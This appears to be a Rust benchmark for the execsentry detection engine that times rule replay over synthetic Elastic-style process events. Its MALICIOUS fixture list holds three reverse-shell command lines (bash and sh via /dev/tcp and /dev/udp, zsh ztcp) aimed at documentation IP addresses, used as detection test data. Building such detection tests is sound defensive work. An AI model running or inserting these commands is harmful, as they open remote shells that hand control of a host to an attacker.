//! End-to-end replay throughput on one core: ECS NDJSON → reader → built-in rules → throttle →
//! alert serialization → null sink, against the floor of parsing the same lines with
//! `serde_json::from_slice::<Value>` and nothing else.
//!
//! `cargo bench --bench replay` (100k events, median of 5 runs). Run without `--bench` (as
//! `cargo test --all-targets` does) it is a quick smoke run.

use std::hint::black_box;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use execsentry::eql::Options;
use execsentry::replay::{FormatChoice, Replay};
use execsentry::rules::{load_builtin, RuleSet};
use execsentry::sink::NullSink;
use execsentry::source::ecs_ndjson::NdjsonReader;
use execsentry::source::Format;

/// Deterministic pseudo-random numbers (xorshift64*), so every run replays the same input.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[(self.next() % items.len() as u64) as usize]
    }
}

const BENIGN: &[(&str, &[&str])] = &[
    (
        "/usr/bin/bash",
        &["bash", "-c", "make -j8 && ./run-tests.sh"],
    ),
    ("/usr/bin/ls", &["ls", "-la", "/var/log"]),
    ("/usr/bin/git", &["git", "fetch", "--prune", "origin"]),
    (
        "/usr/bin/python3.11",
        &["python3", "/opt/app/worker.py", "--queue", "default"],
    ),
    (
        "/usr/bin/curl",
        &["curl", "-s", "https://example.com/health"],
    ),
    ("/bin/sh", &["sh", "-c", "echo $PATH > /dev/null"]),
    ("/usr/bin/systemctl", &["systemctl", "is-active", "nginx"]),
    (
        "/usr/bin/bash",
        &["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/8080"],
    ),
];

const MALICIOUS: &[(&str, &[&str])] = &[
    (
        "/usr/bin/bash",
        &["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"],
    ),
    (
        "/usr/bin/zsh",
        &["zsh", "-c", "zmodload zsh/net/tcp && ztcp 192.0.2.7 443"],
    ),
    (
        "/bin/sh",
        &["sh", "-c", "sh -i >& /dev/udp/198.51.100.2/53 0>&1"],
    ),
];

const PARENTS: &[(&str, &[&str])] = &[
    ("/usr/sbin/cron", &["/usr/sbin/cron", "-f"]),
    ("/usr/sbin/sshd", &["sshd: ci [priv]"]),
    ("/usr/bin/bash", &["-bash"]),
    ("/usr/sbin/php-fpm8.2", &["php-fpm: pool www"]),
];

/// `n` Elastic Defend-shaped process events, 1% of them reverse shells, 100 ms apart.
fn synthesize(n: usize) -> (Vec<u8>, usize) {
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let mut out = Vec::with_capacity(n * 1100);
    let mut malicious = 0;
    let start_ms: i64 = 1_795_770_000_000;
    for i in 0..n {
        let bad = rng.next() % 100 == 0;
        malicious += usize::from(bad);
        let (exe, args) = if bad {
            rng.pick(MALICIOUS)
        } else {
            rng.pick(BENIGN)
        };
        let (pexe, pargs) = rng.pick(PARENTS);
        let pid = 1000 + (rng.next() % 60_000);
        let ts = execsentry::time::format_rfc3339_ms((start_ms + i as i64 * 100) * 1_000_000);
        let v = json!({
            "@timestamp": ts,
            "agent": {"type": "endpoint", "version": "8.15.3", "id": "c1d2e3f4-0000-4a5b-8c9d-0e1f2a3b4c5d"},
            "data_stream": {"dataset": "endpoint.events.process", "namespace": "default", "type": "logs"},
            "ecs": {"version": "8.11.0"},
            "event": {"id": format!("bench-{i:08}"), "kind": "event", "category": ["process"],
                      "type": ["start"], "action": "exec", "dataset": "endpoint.events.process"},
            "host": {"name": "web-01", "hostname": "web-01", "id": "8f1c2d3e4b5a69788796a5b4c3d2e1f0",
                     "os": {"type": "linux", "family": "debian", "kernel": "6.1.0-28-amd64"}},
            "process": {
                "pid": pid, "entity_id": format!("ZmFrZS1lbnRpdHkt{pid}"),
                "executable": exe, "name": exe.rsplit('/').next(),
                "args": args, "args_count": args.len(), "command_line": args.join(" "),
                "working_directory": "/home/ci",
                "parent": {"pid": pid - 1, "executable": pexe, "name": pexe.rsplit('/').next(),
                           "args": pargs, "command_line": pargs.join(" ")},
                "user": {"id": "1001", "name": "ci"}
            },
            "user": {"id": "1001", "name": "ci"}
        });
        serde_json::to_writer(&mut out, &v).unwrap();
        out.push(b'\n');
    }
    (out, malicious)
}

fn median(mut runs: Vec<Duration>) -> Duration {
    runs.sort();
    runs[runs.len() / 2]
}

fn main() {
    let full = std::env::args().any(|a| a == "--bench");
    let (events, reps) = if full { (100_000, 5) } else { (2_000, 1) };
    let (data, malicious) = synthesize(events);
    let (rules, rest) = RuleSet::from_reports(load_builtin(&Options::default()));
    assert!(
        rest.is_empty() && !rules.is_empty(),
        "the built-in rules did not load: {rest:?}"
    );

    let mut floor = Vec::new();
    let mut reader = Vec::new();
    let mut replay = Vec::new();
    let mut alerts = 0;
    let mut suppressed = 0;
    for _ in 0..reps {
        let t = Instant::now();
        let mut n = 0usize;
        for line in data.split(|&b| b == b'\n').filter(|l| !l.is_empty()) {
            let v: Value = serde_json::from_slice(line).unwrap();
            black_box(&v);
            n += 1;
        }
        floor.push(t.elapsed());
        assert_eq!(n, events);

        let t = Instant::now();
        let mut r = NdjsonReader::new(&data[..]);
        while let Some(doc) = r.next_document().unwrap() {
            black_box(&doc.unwrap());
        }
        reader.push(t.elapsed());

        let t = Instant::now();
        let mut rp = Replay::new(&rules, NullSink::default());
        rp.input("bench", &data[..], FormatChoice::Fixed(Format::Ecs))
            .unwrap();
        let stats = rp.stats().clone();
        let sink = rp.finish().unwrap();
        replay.push(t.elapsed());
        assert_eq!(stats.events as usize, events);
        assert_eq!(sink.lines, stats.alerts);
        alerts = stats.alerts;
        suppressed = stats.suppressed;
    }

    let rate = |d: Duration| events as f64 / d.as_secs_f64();
    let (floor, reader, replay) = (median(floor), median(reader), median(replay));
    let mib = data.len() as f64 / (1024.0 * 1024.0);
    println!(
        "replay bench: {events} events ({malicious} reverse shells), {mib:.1} MiB, median of {reps}, one core"
    );
    for (name, d) in [
        ("floor:  serde_json::from_slice::<Value> per line", floor),
        ("reader: NdjsonReader -> JsonDocument", reader),
        (
            "replay: reader + built-in rules + alerts -> null sink",
            replay,
        ),
    ] {
        println!(
            "  {name:<55} {:>10.0} events/s  {:>7.1} MiB/s",
            rate(d),
            mib / d.as_secs_f64()
        );
    }
    println!(
        "  replay / floor throughput ratio: {:.2}",
        rate(replay) / rate(floor)
    );
    println!("  alerts: {alerts}, suppressed by throttle: {suppressed}");
}
